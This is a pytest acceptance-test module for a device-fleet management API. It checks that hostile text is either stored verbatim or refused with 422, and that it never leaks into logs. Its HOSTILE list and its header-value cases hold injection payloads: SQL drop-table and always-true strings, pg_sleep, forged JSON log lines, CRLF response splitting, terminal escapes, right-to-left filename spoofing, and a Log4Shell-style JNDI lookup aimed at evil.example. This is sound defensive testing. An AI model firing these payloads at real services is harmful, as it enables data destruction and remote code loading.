"""Text that would be something else: SQL, log lines, terminal commands, paths. Stored as it is, or refused.

Does not look for secrets or bad log lines at the end: the sweep does that for every case (suite/environments.py).
"""

import json
import re
from urllib.parse import quote

import pytest

from acceptance.fleet.apks import new_package, upload
from acceptance.suite.case import case
from acceptance.system.api import Api
from acceptance.system.database import Database
from acceptance.system.logs import Logs
from acceptance.system.match import accepted, refused
from acceptance.system.system import Enrolled, NewDevice, System, Unchanged, new_alias
from harness.http.raw_http import Sockets, request
from harness.waiting import eventually

HOSTILE = {
    "statement": "'); drop table devices; --",
    "always true": "' or '1'='1",
    "double quotes": 'x" or ""="',
    "dollar quotes": "$$; delete from devices; $$ $1 :note %s %(note)s {0}",
    "comment": "*/ select pg_sleep(9); /*",
    "backslashes": "\\' \\\\ \\u0000 \\x00 \\",
    "forged line": 'a\n{"level": "ERROR", "event": "internal.error"}',
    "carriage return": "a\r\n\r\nHTTP/1.1 200 OK",
    "JSON break": '"}\n{"event":"forged","x":"',
    "terminal": "\x1b[2J\x1b]0;owned\x07\x9b31m\x7f\x08",
    "line separators": "a\u2028b\u2029c\x85d\x0b\x0ce",
    "right to left": "a\u202egnp.exe\u2066",
    "emoji": "\U0001f600\U0001f469\u200d\U0001f680",
    "look-up": "${jndi:ldap://evil.example/a} {{7*7}} <script>",
}
ONE_LINE = {name: text for name, text in HOSTILE.items() if not re.search(r"[\x00-\x1f\x7f]", text)}
every_text = pytest.mark.parametrize("name", HOSTILE)


def log_is_clean(logs: Logs, text: str) -> bool:
    """What was said of the case is whole lines of JSON, and none of the text is in them."""
    lines = logs.since()
    assert lines, "no line at all"
    assert not any(text in json.dumps(line, ensure_ascii=False) for line in lines), "free text in the log"
    return True


@case("injection/001", "createEnrollTokens 200", "completeAction 200")
@every_text
def test_free_text_comes_back_as_it_was_given(
    name: str, system: System, api: Api, device: NewDevice, logs: Logs, db: Database
) -> None:
    """A note, a message and a build's notes are kept to the letter, whatever they look like (security.md)."""
    text = HOSTILE[name]
    others = "select md5(string_agg(d::text, '' order by device_id)) from devices d where device_id <> %s"
    alias, package, one = new_alias(), new_package(), device()
    before = db.value(others, one.device_id)
    accepted(api.admin("POST", "/v1/enroll-tokens", json={"aliases": [alias], "note": text}))
    [token] = accepted(api.admin("GET", "/v1/enroll-tokens", params={"alias": alias}))["items"]
    assert token["note"] == text
    request_id = system.ping(one)
    accepted(one.complete(request_id, message=text, data={"said": text}))
    dispatch = accepted(api.admin("GET", f"/admin/dispatches/{request_id}"))
    assert (dispatch["message"], dispatch["data"]) == (text, {"said": text})
    accepted(upload(api, package_name=package, notes=text), 201)
    [build] = accepted(api.admin("GET", "/v1/apk/builds", params={"package_name": package}))["items"]
    assert build["notes"] == text
    assert db.value("select note from enrollment_tokens where alias = %s", alias) == text
    assert db.value(others, one.device_id) == before
    eventually(system.settled, 5.0)
    log_is_clean(logs, text)


@case("injection/002", "registerDevice 200", "registerDevice 422")
@every_text
def test_a_device_s_facts_are_one_line_of_text(
    name: str, api: Api, device: NewDevice, system: System, logs: Logs, unchanged: Unchanged
) -> None:
    """A fact of a device is kept to the letter, or is a 422 where it holds a control character (security.md)."""
    text = HOSTILE[name]
    facts = dict.fromkeys(("manufacturer", "model", "serial", "android_version"), text)
    if name in ONE_LINE:
        one = device(**facts)
        assert facts.items() <= accepted(api.admin("GET", f"/v1/devices/{one.device_id}")).items()
    else:
        token = system.token()["token"]
        with unchanged():
            answer = api.bearer(token, "POST", "/v1/register", json={"agent_version": "1.0.0", **facts})
        refused(answer, 422, "validation_error")
    log_is_clean(logs, text)


@case("injection/003", "* 422")
@every_text
def test_a_name_is_never_hostile(
    name: str, api: Api, somebody: Enrolled, system: System, logs: Logs, unchanged: Unchanged
) -> None:
    """Aliases, versions, ids, tokens, filters and cursors are 422 for anything but their own letters (security.md)."""
    text = HOSTILE[name]
    part = quote(text.replace("/", "|"), safe="")  # a slash, even as %2F, makes another path
    token = system.token(scope="register")["token"]
    with unchanged():
        answers = [
            api.admin("POST", "/v1/enroll-tokens", json={"aliases": [text]}),
            api.bearer(token, "POST", "/v1/register", json={"agent_version": text}),
            api.bearer(token, "POST", "/v1/register", json={"agent_version": "1.0.0", "fcm_token": text * 9}),
            somebody.heartbeat(agent_version=text),
            somebody.heartbeat(status=text),
            somebody.complete(text),
            somebody.complete("some-dispatch", data={text: 1}),
            api.command({"request_id": text, "device_id": somebody.device_id, "action": "ping"}),
            api.command({"device_id": text, "action": "ping"}),
            api.admin("GET", f"/v1/devices/{part}"),
            api.admin("GET", f"/admin/dispatches/{part}"),
            api.admin("DELETE", f"/v1/enroll-tokens/{part}"),
            *(
                api.admin("GET", path, params={parameter: text})
                for path, parameters in {
                    "/v1/devices": ("alias", "status", "last_status", "stale_since", "cursor", "limit"),
                    "/v1/enroll-tokens": ("alias", "status", "cursor", "limit"),
                    "/admin/dispatches": ("device_id", "action", "status", "command_request_id", "cursor", "limit"),
                    "/v1/apk/builds": ("package_name", "build_type", "cursor", "limit"),
                    "/v1/scripts/enroll.sh": ("alias",),
                    "/v1/scripts/enroll.cmd": ("alias",),
                }.items()
                for parameter in parameters
            ),
        ]
    for answer in answers:
        refused(answer, 422, "validation_error")
    log_is_clean(logs, text)


@case("injection/004")
@pytest.mark.parametrize(
    "value",
    [
        b"\x1b[2J\x1b[31m",
        b"\x9b31m\x85",
        b"a\tb",
        "\u202egnp.exe".encode(),
        b'"}{"event":"forged"}',
        b"'; drop table devices; --",
        b"%0d%0aforged: 1",
        b"${jndi:ldap://x}",
        b"x" * 8000,
    ],
    ids=lambda value: repr(value[:12]),
)
@pytest.mark.parametrize("header", ["X-Request-ID", "User-Agent", "Authorization", "X-Admin", "X-Forwarded-For"])
def test_a_header_s_bytes_reach_no_log(
    header: str, value: bytes, sockets: Sockets, logs: Logs, unchanged: Unchanged
) -> None:
    """A header of any bytes is refused or ignored, is not echoed, and no log line holds it (security.md)."""
    path = "/v1/devices" if header in ("Authorization", "X-Admin") else "/healthz"
    sent = request(f"GET {path}", (header, value.decode("latin-1")), ("Connection", "close"))
    with unchanged():
        [answer] = sockets.exchange(sent)
    assert answer.status in ((403, 400) if path == "/v1/devices" else (200, 400))
    assert value not in answer.body
    assert answer.request_id
    assert re.fullmatch("[A-Za-z0-9._-]{1,64}", answer.request_id)
    logs.wait("connection.refused" if answer.status == 400 else "http.request", request_id=answer.request_id)
    log_is_clean(logs, value.decode("latin-1"))
